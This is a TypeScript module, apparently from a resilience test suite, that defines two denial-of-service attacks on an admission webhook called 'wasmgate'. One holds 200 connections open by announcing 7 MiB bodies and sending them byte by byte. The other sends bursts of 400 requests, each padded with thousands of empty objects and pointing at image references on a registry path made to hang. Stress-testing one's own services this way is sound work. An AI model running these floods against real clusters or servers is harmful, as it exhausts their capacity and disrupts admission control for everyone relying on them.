import { ATTACKER, type Attack } from './attack.ts';
import { podReview } from './pod-review.ts';
import { createRawConnections } from './raw-connection.ts';
import { everyMilliseconds } from './schedule.ts';

const DEFAULTS = {
  /** Bodies of 7 MiB that are announced and never sent. */
  announced: 200,
  announcedBytes: 7 * 1024 * 1024,
  everyMilliseconds: 100,
  /** New connections and bytes in each turn. */
  eachTurn: 50,
  /** Sent at once, and again after those time out: twice the requests that an API server has in flight for all its clients. */
  small: 400,
  smallEveryMilliseconds: 5_000,
  /** `{}` in a body just under 16 KiB, above which wasmgate estimates a body before it parses it. */
  objects: 4_000,
} as const;

const HEAD = [
  'POST /mutate?timeout=5s HTTP/1.1',
  'Host: wasmgate.wasmgate-system.svc',
  'Content-Type: application/json',
  `Content-Length: ${DEFAULTS.announcedBytes}`,
].join('\r\n');

export const announcedBodies: Attack = {
  name: 'announced-bodies',
  title: 'bodies of 7 MiB announced on 200 connections and sent byte by byte',
  run: async ({ port }, signal) => {
    using connections = createRawConnections();
    await everyMilliseconds(DEFAULTS.everyMilliseconds, signal, () => {
      const open = connections.open();
      for (const socket of open.slice(0, DEFAULTS.eachTurn)) socket.write(' ');
      const missing = Math.min(DEFAULTS.announced - open.length, DEFAULTS.eachTurn);
      for (let turn = 0; turn < missing; turn += 1) connections.openTls(port, `${HEAD}\r\n\r\n{`);
    });
  },
};

/** Built once, because this process is busy during an attack. */
const OBJECTS = `"tolerations":[${Array.from({ length: DEFAULTS.objects }, () => '{}').join(',')}]`;

export const smallBodies: Attack = {
  name: 'small-bodies',
  title: '400 bodies of thousands of objects just under 16 KiB at once, their registry hanging',
  answer: (path) => (path.startsWith('/v2/attacker/') ? () => undefined : null),
  run: ({ registry, apply }, signal) =>
    everyMilliseconds(DEFAULTS.smallEveryMilliseconds, signal, (turn) => {
      for (let index = 0; index < DEFAULTS.small; index += 1) {
        const images = [`${registry}/attacker/hanging-${turn}-${index}:1`];
        const { uid, body } = podReview({ namespace: ATTACKER, images, spec: { tolerations: [] } });
        apply({ uid, body: body.replace('"tolerations":[]', OBJECTS) });
      }
    }),
};
